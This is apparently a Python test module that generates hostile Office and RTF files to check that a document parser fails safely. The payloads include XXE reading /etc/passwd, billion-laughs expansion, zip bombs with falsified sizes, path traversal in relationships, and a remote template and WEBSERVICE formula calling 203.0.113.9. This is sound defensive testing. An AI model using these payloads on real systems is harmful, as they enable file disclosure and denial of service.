"""Word and Excel files, and what stands in them: entities, bombs, spans, ways out."""

from __future__ import annotations

import struct
from collections.abc import Callable, Mapping
from io import BytesIO
from random import Random
from zipfile import ZIP_DEFLATED, ZIP_STORED, ZipFile

import docx as python_docx
from openpyxl import Workbook

from samples.draw_sheet import draw_xlsx
from tests.hostile.case import GOOD, Hostile, good_docx, swollen
from tests.readers.ole_files import ole_file

S = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
LAUGHS = "<!DOCTYPE r [<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 12)) + "]>"
FILE = "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"


def repacked(data: bytes, change: Mapping[str, Callable[[bytes], bytes]], more: Mapping[str, bytes] | None = None) -> bytes:
    """A package with some parts changed and some added."""
    out = BytesIO()
    with ZipFile(BytesIO(data)) as old, ZipFile(out, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            new.writestr(name, change[name](old.read(name)) if name in change else old.read(name))
        for name, body in (more or {}).items():
            new.writestr(name, body)
    return out.getvalue()


def docx(body: str, head: str = "") -> bytes:
    """A Word file with this body."""
    xml = f'<?xml version="1.0" encoding="UTF-8"?>{head}<w:document {W}><w:body>{body}</w:body></w:document>'
    return repacked(good_docx(), {"word/document.xml": lambda _: xml.encode()})


def xlsx(sheet: str, strings: str = "") -> bytes:
    """A workbook whose one sheet has this XML."""
    book = Workbook()
    book.active["A1"] = "a"
    out = BytesIO()
    book.save(out)
    head = '<?xml version="1.0" encoding="UTF-8"?>'
    change = {"xl/worksheets/sheet1.xml": lambda _: f"{head}<worksheet {S}>{sheet}</worksheet>".encode()}
    more = {}
    if strings:
        more["xl/sharedStrings.xml"] = f"{head}{strings}".encode()
        kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"
        rel = f'<Relationship Id="rIdS" Type="{kind}" Target="sharedStrings.xml"/></Relationships>'
        change["xl/_rels/workbook.xml.rels"] = lambda old: old.replace(b"</Relationships>", rel.encode())
        mime = "application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"
        part = f'<Override PartName="/xl/sharedStrings.xml" ContentType="{mime}"/></Types>'
        change["[Content_Types].xml"] = lambda old: old.replace(b"</Types>", part.encode())
    return repacked(out.getvalue(), change, more)


def _lying_size() -> bytes:
    """A package whose directory says that the document is small, while it unpacks to a hundred megabytes."""
    document = (f"<w:document {W}><w:body><w:p><w:r><w:t>".encode(), 1), (b"a" * 2**20, 100)
    end = (b"</w:t></w:r></w:p></w:body></w:document>", 1)
    data = bytearray(swollen(good_docx(), "word/document.xml", (*document, end)))
    at = data.index(b"PK\x01\x02")
    while data[at : at + 4] == b"PK\x01\x02":
        (name, extra, note) = struct.unpack_from("<HHH", data, at + 28)
        if data[at + 46 : at + 46 + name] == b"word/document.xml":
            struct.pack_into("<I", data, at + 24, 5000)
        at += 46 + name + extra + note
    return bytes(data)


def locked_entries() -> bytes:
    """A Word file each of whose parts is marked as encrypted."""
    data = bytearray(good_docx())
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _other_name(size: int) -> bytes:
    """The document stands in a part that is not called .xml and is a bomb."""
    rels = lambda old: old.replace(b"word/document.xml", b"word/document.bin")  # noqa: E731
    return swollen(repacked(good_docx(), {"_rels/.rels": rels}), "word/document.bin", ((b" " * 2**20, size >> 20),))


def _swollen_document() -> bytes:
    document = (f"<w:document {W}><w:body>".encode(), 1), (b" " * 2**20, 290), (b"</w:body></w:document>", 1)
    return swollen(good_docx(), "word/document.xml", document)


def _swollen_strings() -> bytes:
    book = xlsx(f"<sheetData>{BIG_ROW}</sheetData>", "<sst/>")
    return swollen(book, "xl/sharedStrings.xml", ((f"<sst {S}>".encode(), 1), (b" " * 2**20, 200), (b"</sst>", 1)))


def _chunk_in_chunk(depth: int) -> bytes:
    inner = good_docx()
    kind = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    for _ in range(depth):
        body = f'<w:document {W} xmlns:r="{kind}"><w:body><w:altChunk r:id="c"/></w:body></w:document>'
        rels = f'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="c" Type="{kind}/aFChunk" Target="chunk.docx"/></Relationships>'
        parts = {"word/document.xml": lambda _, b=body: b.encode()}
        old = repacked(good_docx(), parts)
        out = BytesIO()
        with ZipFile(BytesIO(old)) as was, ZipFile(out, "w", ZIP_STORED) as new:
            for name in was.namelist():
                if name != "word/_rels/document.xml.rels":
                    new.writestr(name, was.read(name))
            new.writestr("word/_rels/document.xml.rels", rels)
            new.writestr("word/chunk.docx", inner)
        inner = out.getvalue()
    return inner


def _way_out() -> bytes:
    rels = lambda old: old.replace(b"word/document.xml", b"../../../../../etc/passwd")  # noqa: E731
    return repacked(good_docx(), {"_rels/.rels": rels})


def _linked() -> bytes:
    """A whole report whose template and pictures lie on another machine."""
    more = '<Relationship Id="far" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://203.0.113.9/x.dotm" TargetMode="External"/></Relationships>'
    return repacked(good_docx(), {"_rels/.rels": lambda old: old.replace(b"</Relationships>", more.encode())})


def _many_entries() -> bytes:
    return repacked(good_docx(), {}, {f"word/media/{n}.png": b"" for n in range(40_000)})


def _plain_docx() -> bytes:
    out = BytesIO()
    python_docx.Document().save(out)
    return out.getvalue()


TABLE_BOMB = (
    "<w:tbl>" + "<w:tr>" + '<w:tc><w:tcPr><w:gridSpan w:val="999999999"/></w:tcPr><w:p/></w:tc>' * 2000 + "</w:tr></w:tbl>"
)
CELL = "<w:tc><w:p><w:r><w:t>1</w:t></w:r></w:p></w:tc>"
BIG_ROW = '<row r="1"><c r="A1" t="s"><v>0</v></c></row>'


def _looping_ole() -> bytes:
    data = bytearray(ole_file(WordDocument=b"x" * 9000))
    for at in range(512, 1024, 4):
        struct.pack_into("<I", data, at, 1)
    return bytes(data)


OFFICE = (
    Hostile(
        "实体指向本机文件.docx", lambda: docx("<w:p><w:r><w:t>&x;</w:t></w:r></w:p>", FILE), "damaged|empty|foreign|no_tables"
    ),
    Hostile("十亿次大笑.docx", lambda: docx("<w:p><w:r><w:t>&a11;</w:t></w:r></w:p>", LAUGHS), "damaged|empty|foreign|no_tables"),
    Hostile("嵌套十万层.docx", lambda: docx("<w:sdt>" * 100_000 + "</w:sdt>" * 100_000), "damaged"),
    Hostile(
        "表中表八十层.docx",
        lambda: docx("<w:tbl><w:tr><w:tc>" * 80 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 80),
        "foreign|no_tables|empty|damaged",
    ),
    Hostile("跨列十亿.docx", lambda: docx(TABLE_BOMB), "oversized|foreign|no_tables"),
    Hostile("二十五万格.docx", lambda: docx("<w:tbl>" + f"<w:tr>{CELL * 50}</w:tr>" * 5000 + "</w:tbl>"), "oversized"),
    Hostile("一段一千万字.docx", lambda: docx(f"<w:p><w:r><w:t>{'年' * 10_000_000}</w:t></w:r></w:p>"), "oversized|damaged"),
    Hostile(
        "百万属性.docx", lambda: docx("<w:p " + " ".join(f'a{n}="1"' for n in range(1_000_000)) + "/>"), "damaged|empty|oversized"
    ),
    Hostile("解压炸弹.docx", _swollen_document, "oversized"),
    Hostile("谎报大小.docx", _lying_size, "damaged|oversized"),
    Hostile("换名炸弹.docx", lambda: _other_name(300_000_000), "oversized"),
    Hostile("条目加密.docx", locked_entries, "password|damaged"),
    Hostile("截断.docx", lambda: good_docx()[: len(good_docx()) // 2], "damaged"),
    Hostile("部件路径越界.docx", _way_out, "damaged"),
    Hostile("外部模板.docx", _linked, "read"),
    Hostile("套娃二十层.docx", lambda: _chunk_in_chunk(20), "damaged"),
    Hostile("四万条目.docx", _many_entries, "read|oversized"),
    Hostile("空白.docx", _plain_docx, "empty"),
    Hostile("加密.xlsx", lambda: ole_file(EncryptedPackage=Random(1).randbytes(9000)), "password"),
    Hostile(
        "合并整表.xlsx",
        lambda: xlsx(f'<sheetData>{BIG_ROW}</sheetData><mergeCells><mergeCell ref="A1:XFD1048576"/></mergeCells>'),
        "oversized",
    ),
    Hostile(
        "远角单元格.xlsx",
        lambda: xlsx('<sheetData><row r="1048576"><c r="XFD1048576"><v>1</v></c></row></sheetData>'),
        "foreign|no_tables|empty|oversized",
    ),
    Hostile(
        "行号极大.xlsx",
        lambda: xlsx('<sheetData><row r="99999999999"><c r="A99999999999"><v>1</v></c></row></sheetData>'),
        "damaged|foreign|no_tables|empty",
    ),
    Hostile(
        "百万单元格.xlsx",
        lambda: xlsx(
            "<sheetData>"
            + "".join(f'<row r="{r}">' + "".join("<c><v>1</v></c>" for _ in range(100)) + "</row>" for r in range(1, 10_001))
            + "</sheetData>"
        ),
        "oversized|timeout|memory",
        slow=True,
    ),
    Hostile(
        "十亿次大笑.xlsx",
        lambda: xlsx(f"<sheetData>{BIG_ROW}</sheetData>", f"{LAUGHS}<sst {S}><si><t>&a11;</t></si></sst>"),
        "damaged|foreign|no_tables|oversized",
    ),
    Hostile(
        "实体指向本机文件.xlsx",
        lambda: xlsx(f"<sheetData>{BIG_ROW}</sheetData>", f"{FILE}<sst {S}><si><t>&x;</t></si></sst>"),
        "damaged|foreign|no_tables",
    ),
    Hostile(
        "字符串炸弹.xlsx",
        _swollen_strings,
        "oversized",
    ),
    Hostile(
        "公式取外部数据.xlsx",
        lambda: xlsx('<sheetData><row r="1"><c r="A1"><f>WEBSERVICE("http://203.0.113.9/")</f></c></row></sheetData>'),
        "empty|foreign|no_tables",
    ),
    Hostile("截断.xlsx", lambda: draw_xlsx(GOOD)[:3000], "damaged"),
    Hostile("复合文档截断.doc", lambda: ole_file(WordDocument=b"x" * 5000)[:700], "damaged|foreign|needs_office"),
    Hostile("扇区循环.doc", _looping_ole, "damaged|foreign|needs_office"),
    Hostile(
        "括号十万层.rtf",
        lambda: b"{\\rtf1 " + b"{" * 100_000 + b"}" * 100_000 + b"}",
        "damaged|empty|needs_office|timeout|foreign|no_tables",
        slow=True,
    ),
)
